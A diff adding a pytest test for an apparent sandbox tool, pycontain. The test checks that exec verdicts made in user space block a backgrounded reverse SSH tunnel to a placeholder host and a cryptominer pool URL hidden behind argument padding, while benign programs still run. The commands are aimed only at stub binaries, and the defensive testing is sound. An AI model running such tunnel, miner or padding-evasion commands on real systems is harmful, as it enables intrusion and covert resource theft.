@@ -1,0 +1,100 @@
+"""User-space exec verdicts without a race (issue 11), through `pycontain run`.
+
+A program whose verdict needs user space (ssh with an argument rule; any
+argv longer than the kernel reads) is held stopped by the kernel before its
+first instruction until the controller decides. The same agent script runs
+bare first: every move succeeds (all sentinels written); under pycontain with
+the built-in default policy the denied ones never write theirs and the
+benign ones still do.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+PYCONTAIN = [sys.executable, "-m", "pycontain.cli"]
+
+# writes $1's sentinel; with FORK=1 it forks at once, the parent exits and the
+# background child writes the sentinel 0.3 s later (what a reverse tunnel does)
+HELPER_C = r"""
+#include <fcntl.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+int main(int argc, char **argv) {
+    const char *s = getenv("SENTINEL");
+    if (getenv("FORK") && fork() > 0) return 0;
+    if (getenv("FORK")) usleep(300000);
+    if (s) close(open(s, O_CREAT | O_WRONLY, 0644));
+    return 0;
+}
+"""
+
+
+@pytest.fixture(scope="module")
+def helpers(tmp_path_factory) -> Path:
+    cc = shutil.which("gcc") or shutil.which("cc")
+    if not cc:
+        pytest.fail("no C compiler (scripts/install-test-tools.sh installs gcc)")
+    d = tmp_path_factory.mktemp("hold")
+    (d / "h.c").write_text(HELPER_C)
+    subprocess.run([cc, "-O1", "-o", str(d / "ssh"), str(d / "h.c")], check=True)
+    shutil.copy(d / "ssh", d / "innocent")
+    return d
+
+
+def agent_script(helpers: Path, out: Path) -> Path:
+    pad = "x" * 1100
+    ssh, inn = helpers / "ssh", helpers / "innocent"
+    s = out / "agent.sh"
+    s.write_text(f"""#!/bin/sh
+# denied by an argument rule judged in user space, forking into the background at once
+FORK=1 SENTINEL={out}/tunnel {ssh} -NfR 2222:localhost:22 far.example
+# denied pool URL hidden after 1 KiB of padding
+SENTINEL={out}/padded {inn} {pad} -o stratum+tcp://198.51.100.7:3333
+# benign: ssh host cmd (held, then released), a compiled C program, #! scripts
+SENTINEL={out}/ssh-cmd {ssh} far.example grep -R foo
+printf 'int main(void){{return 0;}}' > {out}/p.c && cc -o {out}/p {out}/p.c && {out}/p && touch {out}/compiled
+printf '#!{sys.executable}\\nopen("{out}/py-script", "w")\\n' > {out}/s.py && chmod +x {out}/s.py && {out}/s.py
+sleep 0.6
+""")
+    s.chmod(0o755)
+    return s
+
+
+DENIED = ("tunnel", "padded")
+BENIGN = ("ssh-cmd", "compiled", "py-script")
+
+
+def test_held_verdicts_bare_then_under_pycontain(privileged, helpers, tmp_path):
+    bare, contained = tmp_path / "bare", tmp_path / "contained"
+    for d in (bare, contained):
+        d.mkdir()
+    os.chmod(tmp_path, 0o755)
+    subprocess.run(["/bin/sh", str(agent_script(helpers, bare))], check=True, timeout=60)
+    assert all((bare / n).exists() for n in DENIED + BENIGN), sorted(p.name for p in bare.iterdir())
+
+    audit = tmp_path / "audit.jsonl"
+    r = subprocess.run(PYCONTAIN + ["run", "--name", "t-hold", "--audit-log", str(audit), "--",
+                                    "/bin/sh", str(agent_script(helpers, contained))],
+                       capture_output=True, text=True, timeout=120)
+    assert r.returncode == 0, r.stderr
+    made = sorted(p.name for p in contained.iterdir())
+    for n in DENIED:
+        assert not (contained / n).exists(), f"{n}: the denied program ran (made: {made})"
+    for n in BENIGN:
+        assert (contained / n).exists(), f"{n}: the benign program was stopped (made: {made})"
+    recs = [json.loads(line) for line in audit.read_text().splitlines() if line.strip()]
+    held = [x for x in recs if x.get("kind") == "exec" and x.get("held")]
+    assert {os.path.basename(x["filename"]) for x in held} >= {"ssh", "innocent"}
+    assert any(x.get("real_path") == str(helpers / "ssh") for x in held)
+    violations = {x.get("rule") for x in recs if x.get("kind") == "violation"}
+    assert any(v.startswith("exec.deny_program_args") for v in violations), violations
+    assert any(v.startswith("exec.deny_args") for v in violations), violations
